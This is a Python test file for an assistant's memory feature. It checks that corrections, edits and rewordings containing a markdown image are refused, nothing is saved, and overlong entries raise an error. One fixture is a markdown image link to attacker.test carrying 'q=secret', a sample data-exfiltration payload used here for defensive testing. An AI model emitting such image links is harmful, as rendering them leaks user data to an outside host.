"""What an entry may not carry is refused at every door, with a sentence, and nothing of it is saved."""

import pytest

from assistant.errors import InputError, NotKept
from assistant.sharing import SharingRules
from memory_store.store import Store
from tests.support.memory.loop import ME, RIGHT, WRONG, Loop, active
from ui.page.memory.memory import MemoryHandlers

pytestmark = pytest.mark.promise("content-rules")

PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"
REFUSED = NotKept("holds.picture").sentence


def test_refused_correction_stores_nothing(store: Store) -> None:
    loop = Loop(store, WRONG)
    turn = loop.ask("what is akin to quick ?")
    with pytest.raises(NotKept, match="please take it out and save again"):
        list(loop.assistant.clarify(turn.id, PICTURE, ME))
    assert active(store) == []
    assert [turn.corrected_by for turn in loop.assistant.turns("c", ME)] == [None]


def test_edit_and_wording_are_refused(store: Store) -> None:
    loop = Loop(store, WRONG, RIGHT)
    loop.clarify(loop.ask("what is akin to quick ?"), "a synonym")
    (entry,) = store.memory.entries(ME)
    page = MemoryHandlers(store.memory, store.sharing(SharingRules()))
    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": REFUSED}
    assert page.rekey({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": REFUSED}
    assert store.memory.entry(entry.id, ME) == entry
    with pytest.raises(InputError, match="2,001 characters long"):
        store.memory.edit(entry.id, "x" * 2001, ME)
